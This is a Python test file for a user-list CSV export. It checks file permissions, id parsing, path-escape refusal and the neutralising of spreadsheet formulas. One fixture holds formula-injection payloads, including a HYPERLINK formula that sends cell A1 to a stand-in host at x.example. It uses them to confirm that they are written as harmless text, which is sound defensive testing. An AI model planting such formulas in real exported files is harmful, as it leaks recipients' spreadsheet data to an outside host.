"""Lists given back under the platform's own ids: the right people, for the owner alone, outside the home."""

import codecs
import csv

import duckdb
import pytest

from lyceum import privacy, releases
from lyceum.errors import InputError, LyceumError, UsageError
from pipelines.exporting import export


@pytest.fixture
def ids(tmp_path):
    file = tmp_path / "ids.txt"
    file.write_text("u3\n\n  u1  \nu2\nu3\nu999\n")
    return file


def test_people_get_their_own_ids_back(small, ids, tmp_path):
    to = tmp_path / "out" / "list.csv"
    assert export(small, "user_scores", ids=ids, to=to) == 3
    assert {row["user_id"]: row["churn_28d"] for row in read(to)} == {"u1": "0.1", "u2": "0.2", "u3": "0.3"}
    assert to.stat().st_mode & 0o777 == 0o600


def read(file):
    """The rows as a spreadsheet reads them: by the mark at the beginning it knows that this is UTF-8."""
    raw = file.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))


def test_people_held_out_are_left_out_and_formulas_are_harmless(small, ids, tmp_path):
    to = tmp_path / "list.csv"
    to.write_text("old")
    to.chmod(0o644)
    assert export(small, "early_warnings", ids=ids, to=to) == 2
    rows = read(to)
    assert {row["user_id"] for row in rows} == {"u1", "u3"}
    assert {row["suggested_action"] for row in rows} == {"'=HYPERLINK(1)"}
    assert to.stat().st_mode & 0o777 == 0o600


LINK = '=HYPERLINK("http://x.example/?"&A1,"Click")'
LISTED = {
    # own id: rank, holdout, action, value at stake, sentence
    LINK: (3, False, "reminder", -2.5, "=1+1"),
    "+49151": (1, False, "coupon", 7.0, "七天没有活动"),
    "@sum": (2, False, "reminder", 7.0, "\t=A1"),
    "held": (4, True, "none", 7.0, ""),
    "complained": (5, False, "none", 7.0, ""),
}


@pytest.fixture
def hostile(small):
    """The home with a list of people whose own ids, and sentences, a spreadsheet might run."""
    database = releases.current(small.home).database
    database.parent.chmod(0o755)
    database.chmod(0o644)
    key = privacy.load_key("demo", create=False)
    with duckdb.connect(str(database)) as con:
        con.execute("DELETE FROM marts.early_warnings")
        for own, values in LISTED.items():
            con.execute(
                "INSERT INTO marts.early_warnings "
                "(user_id, rank, holdout, suggested_action, value_at_stake, reasons_zh) VALUES (?, ?, ?, ?, ?, ?)",
                [privacy.pseudonym(key, own), *values],
            )
    return small


def test_a_list_with_hostile_ids_is_text_in_order_and_only_of_people_to_contact(hostile, tmp_path):
    (tmp_path / "ids.txt").write_text("\n".join(LISTED))
    to = tmp_path / "list.csv"
    assert export(hostile, "early_warnings", ids=tmp_path / "ids.txt", to=to) == 3
    rows = read(to)
    assert [row["user_id"] for row in rows] == ["'+49151", "'@sum", f"'{LINK}"]
    assert [row["reasons_zh"] for row in rows] == ["七天没有活动", "'\t=A1", "'=1+1"]
    assert [row["value_at_stake"] for row in rows] == ["7.0", "7.0", "-2.5"]  # a number stays one
    assert list(rows[0])[:3] == ["user_id", "suggested_action", "channel"]


@pytest.mark.parametrize(
    "content",
    [
        b"\xef\xbb\xbfu1\r\n\r\nu3\r\n",
        b"user_id\nu1\nu3",
        b'"user_id"\n"u1"\n" u3 "\n',
        "用户ID\nu1\nu3\n".encode("utf-16"),
    ],
)
def test_ids_come_as_editors_and_spreadsheets_save_them(small, tmp_path, content):
    (tmp_path / "ids.csv").write_bytes(content)
    to = tmp_path / "list.csv"
    assert export(small, "user_scores", ids=tmp_path / "ids.csv", to=to) == 2
    assert {row["user_id"] for row in read(to)} == {"u1", "u3"}


def test_every_list_about_people_can_be_given_back(small, ids, tmp_path):
    for name in ("recommendations", "leaderboard", "points_ledger"):
        assert export(small, name, ids=ids, to=tmp_path / f"{name}.csv") == 0
        assert (tmp_path / f"{name}.csv").read_text("utf-8-sig").startswith("user_id,")


def test_nothing_is_written_into_the_home_by_any_way(small, ids, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(small.home.root)
    (tmp_path / "x").mkdir()
    before = sorted(small.home.root.rglob("*"))
    for to in (small.home.root / "a.csv", link / "a.csv", tmp_path / "x" / ".." / "home" / "a.csv"):
        with pytest.raises(UsageError, match="inside the home"):
            export(small, "user_scores", ids=ids, to=to)
    assert sorted(small.home.root.rglob("*")) == before


def test_a_list_without_people_and_an_unknown_list_are_refused(small, ids, tmp_path):
    with pytest.raises(UsageError, match="no user_id"):
        export(small, "segments", ids=ids, to=tmp_path / "x.csv")
    with pytest.raises(LyceumError, match=r"marts\.user_scores"):
        export(small, "user_score", ids=ids, to=tmp_path / "x.csv")


def test_the_file_of_ids_must_hold_some(small, tmp_path):
    with pytest.raises(InputError, match="no file of ids"):
        export(small, "user_scores", ids=tmp_path / "none", to=tmp_path / "x.csv")
    (tmp_path / "empty").write_text("\n \n")
    with pytest.raises(InputError, match="holds no ids"):
        export(small, "user_scores", ids=tmp_path / "empty", to=tmp_path / "x.csv")
    (tmp_path / "binary").write_bytes(b"\xff\xd8\xff\x00")
    with pytest.raises(InputError, match="no text in UTF-8"):
        export(small, "user_scores", ids=tmp_path / "binary", to=tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()


def test_another_key_is_refused_and_not_answered_with_nobody(small, ids, tmp_path, monkeypatch):
    monkeypatch.setenv("LYCEUM_SECRET", "another secret that is not this home's")
    with pytest.raises(LyceumError, match="key"):
        export(small, "user_scores", ids=ids, to=tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()
